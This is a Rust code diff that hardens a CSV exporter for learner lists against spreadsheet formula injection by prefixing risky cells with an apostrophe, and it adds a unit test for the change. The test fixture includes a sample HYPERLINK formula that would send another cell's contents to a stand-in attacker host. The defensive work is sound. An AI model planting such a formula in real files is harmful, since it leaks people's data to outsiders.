@@ -141,14 +141,28 @@ pub fn csv(report: &Report, labels: &Labels) -> Result<Vec<u8>> {
     write_csv(&header, &rows)
 }
 
+/// A cell as text a spreadsheet will not run. Names and organisations in the learner
+/// list are typed by learners, and a cell that starts with `=`, `+`, `-`, `@` (or a tab
+/// or carriage return) is a formula to Excel and LibreOffice: `=HYPERLINK(...)` could
+/// send the other cells to a stranger when staff open the file. A leading apostrophe
+/// makes it text (OWASP's advice for CSV injection); other cells are unchanged.
+fn inert_cell(cell: &str) -> std::borrow::Cow<'_, str> {
+    match cell.chars().next() {
+        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{cell}").into(),
+        _ => cell.into(),
+    }
+}
+
 fn write_csv(header: &[String], rows: &[Vec<String>]) -> Result<Vec<u8>> {
     let mut out = vec![0xEF, 0xBB, 0xBF];
     {
         let mut w = ::csv::Writer::from_writer(&mut out);
         let fail = |e: ::csv::Error| Error::ContentFile(format!("CSV: {e}"));
-        w.write_record(header).map_err(fail)?;
+        w.write_record(header.iter().map(|c| inert_cell(c).into_owned()))
+            .map_err(fail)?;
         for r in rows {
-            w.write_record(r).map_err(fail)?;
+            w.write_record(r.iter().map(|c| inert_cell(c).into_owned()))
+                .map_err(fail)?;
         }
         w.flush()
             .map_err(|e| Error::ContentFile(format!("CSV: {e}")))?;
@@ -354,4 +368,34 @@ pub fn learner_list_csv(
         })
         .collect();
     write_csv(header, &rows)
+}
+
+#[cfg(test)]
+mod csv_injection_tests {
+    use super::*;
+
+    #[test]
+    fn formulas_typed_by_learners_stay_text() {
+        let header = vec!["name".to_string(), "org".to_string()];
+        let rows = vec![
+            vec![
+                "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".to_string(),
+                "+1+2".to_string(),
+            ],
+            vec!["-3".to_string(), "@SUM(A1)".to_string()],
+            vec!["Айгерим".to_string(), "NGO \"Equal\"".to_string()],
+        ];
+        let bytes = write_csv(&header, &rows).unwrap();
+        let text = String::from_utf8(bytes[3..].to_vec()).unwrap();
+        let mut r = ::csv::Reader::from_reader(text.as_bytes());
+        let got: Vec<Vec<String>> = r
+            .records()
+            .map(|rec| rec.unwrap().iter().map(str::to_string).collect())
+            .collect();
+        assert_eq!(got[0][0], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
+        assert_eq!(got[0][1], "'+1+2");
+        assert_eq!(got[1], vec!["'-3", "'@SUM(A1)"]);
+        // Ordinary text is untouched.
+        assert_eq!(got[2], vec!["Айгерим", "NGO \"Equal\""]);
+    }
 }
